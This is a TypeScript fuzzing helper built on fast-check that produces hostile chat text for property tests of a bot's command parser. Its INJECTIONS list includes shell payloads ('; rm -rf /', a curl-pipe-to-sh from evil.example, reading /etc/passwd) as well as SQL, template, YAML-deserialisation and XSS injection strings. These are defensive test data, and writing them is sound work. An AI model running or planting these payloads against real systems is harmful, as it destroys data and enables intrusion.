/**
 * Hostile and random chat text for the property tests of the parser and the commands: the
 * payloads people paste (shell, templates, SQL, Slack and HTML markup), unicode that looks
 * harmless and is not (bidi overrides, zero-width joiners, combining marks), and valid-looking
 * words built from the characters the parser accepts.
 */
import fc from 'fast-check';

/**
 * The seed of every property in the fuzz, load and fault suites: fixed, so a failure reproduces;
 * FC_SEED=<n> runs them with another one. Each test logs the seed it ran with.
 */
export const SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : 20_261_126;

/** fast-check parameters of every property: the seed, and the failing check's own message in the report. */
export function fcParams(numRuns: number): { seed: number; numRuns: number; includeErrorInReport: true } {
  return { seed: SEED, numRuns, includeErrorInReport: true };
}

/** Injection attempts, whole: each is what someone might paste after a command. */
export const INJECTIONS: readonly string[] = [
  // shell
  '; rm -rf /',
  '$(id)',
  '`id`',
  '&& curl -s http://evil.example/x | sh',
  '| cat /etc/passwd',
  '> /etc/motd',
  'physics; reboot',
  'physics$IFS$9id',
  '${PATH}',
  '~root/.ssh',
  // templates (Jinja, as Ansible renders; JS; Ruby)
  '{{ 7*7 }}',
  "{{ lookup('pipe', 'id') }}",
  '{% for x in y %}',
  '${7*7}',
  '#{7*7}',
  // SQL
  "' OR 1=1 --",
  '" OR ""="',
  "physics'; DROP TABLE leases; --",
  "1 UNION SELECT * FROM audit --",
  // YAML
  'key: value',
  '!!python/object/apply:os.system ["id"]',
  '&anchor',
  '*alias',
  '- item',
  '---',
  '{a: 1}',
  '[a, b]',
  // Slack mrkdwn and mentions
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U024BE7LH>',
  '<#C024BE7LR>',
  '<https://evil.example|click me>',
  '*bold* _italic_ ~strike~',
  '`code` ```block```',
  '> quote',
  ':skull:',
  '@channel',
  // HTML, Markdown, Adaptive Card functions
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&lt;b&gt;',
  '[click](https://evil.example)',
  '{{DATE(2017-02-14T06:08:39Z, SHORT)}}',
  // paths, formats, JavaScript names
  '../../etc/passwd',
  '%00',
  '%s%s%s%n',
  '\\x00',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x7fffffff',
];

/** Characters the parser must refuse anywhere: control and invisible ones. */
export const CONTROL_CHARS: readonly string[] = [
  ...range(0x00, 0x08),
  ...range(0x0b, 0x1f),
  ...range(0x7f, 0x9f),
  ...range(0x200b, 0x200f), // zero-width space, non-joiner, joiner, LRM, RLM
  ...range(0x2028, 0x202e), // line and paragraph separators, bidi embeddings and the RTL override
  ...range(0x2066, 0x2069), // bidi isolates
  '\ufeff',
];

/** Unicode that is printable or nearly so, and may surprise a parser or a renderer. */
export const TRICKY_UNICODE: readonly string[] = [
  'é', // precomposed: a letter
  'e\u0301', // decomposed: a letter and a combining mark
  'Z\u0351\u0362\u0336', // "zalgo" combining marks
  'שלום', // Hebrew (right to left)
  'مرحبا', // Arabic (right to left)
  '\u061c', // Arabic letter mark (bidi, not in the control list)
  '\u2060', // word joiner
  '\u00ad', // soft hyphen
  '\u034f', // combining grapheme joiner
  '\ufe0f', // variation selector
  '中文',
  'Жук',
  'ß',
  'İ', // lower-cases to two code units
  'ǅ', // title case
  '٣', // Arabic-Indic digit
  'Ⅻ', // Roman numeral (a number)
  '½',
  '𝒜', // astral letter (two UTF-16 units)
  '😀',
  '👩‍👩‍👧', // emoji joined by zero-width joiners
  '🏳️‍🌈',
  '🇬🇧', // regional indicators
  '\u3000', // ideographic space
  '\u2003', // em space
  '\u00a0', // no-break space: a separator to the parser
  '\t',
  '\n',
  '\ud800', // a lone surrogate: not well-formed
];

/** The characters the parser accepts in a word, with non-ASCII letters and digits among them. */
const WORD_CHARS: readonly string[] = [
  ...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._:@-',
  'é',
  'ß',
  'Ж',
  'ש',
  'م',
  '中',
  '٣',
  'Ⅻ',
  '½',
  '𝒜',
];

function range(from: number, to: number): string[] {
  return Array.from({ length: to - from + 1 }, (_, i) => String.fromCharCode(from + i));
}

/** A word the parser accepts: 1 to `max` code points of letters, digits and `._:@-`, not starting with `-`. */
export function validWord(max = 64): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom(...WORD_CHARS.filter((c) => c !== '-')), fc.array(fc.constantFrom(...WORD_CHARS), { maxLength: max - 1 }))
    .map(([first, rest]) => first + rest.join(''));
}

/** The same text with each letter in upper or lower case at random. */
export function randomCase(text: string): fc.Arbitrary<string> {
  return fc.array(fc.boolean(), { minLength: text.length, maxLength: text.length }).map((upper) => [...text].map((c, i) => (upper[i] ? c.toUpperCase() : c.toLowerCase())).join(''));
}

/** Whitespace the parser treats as one separator. */
export const separator: fc.Arbitrary<string> = fc.array(fc.constantFrom(' ', ' ', ' ', '\t', '\n', '\u00a0'), { minLength: 1, maxLength: 3 }).map((s) => s.join(''));

/** The optional `/daaas` prefix, in the forms people type it. */
export const prefix: fc.Arbitrary<string> = fc.constantFrom('', '', '/daaas ', 'daaas ', '/DAAAS ', '/Daaas\t', '  /daaas   ');

/** One piece of hostile text: an injection, a control character, tricky unicode, or random code points. */
export const hostilePiece: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 4 },
  { arbitrary: fc.constantFrom(...CONTROL_CHARS), weight: 2 },
  { arbitrary: fc.constantFrom(...TRICKY_UNICODE), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }), weight: 1 },
);

/** Text of any shape: random code points and graphemes, including very long strings. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 80 }),
  fc.string({ unit: 'binary-ascii', maxLength: 600 }),
  fc.string({ unit: 'grapheme-composite', minLength: 100, maxLength: 700 }),
  fc.tuple(fc.constantFrom('claim ', 'release ', '/daaas status ', ''), fc.string({ unit: fc.constantFrom('a', ' ', '-', '.', 'é'), minLength: 480, maxLength: 2_000 })).map(([a, b]) => a + b),
  fc.array(hostilePiece, { minLength: 1, maxLength: 8 }).map((parts) => parts.join(' ')),
);

/** Inserts `piece` into `text` at a random place: glued to a word, between words, or at either end. */
export function insertSomewhere(text: string, piece: string): fc.Arbitrary<string> {
  return fc.tuple(fc.nat({ max: text.length }), fc.constantFrom('', ' ')).map(([at, glue]) => `${text.slice(0, at)}${glue}${piece}${glue}${text.slice(at)}`);
}

/** Well-formed UTF-16: no lone surrogate (String.prototype.isWellFormed, Node 20). */
export function isWellFormed(text: string): boolean {
  return !/\p{Surrogate}/u.test(text);
}
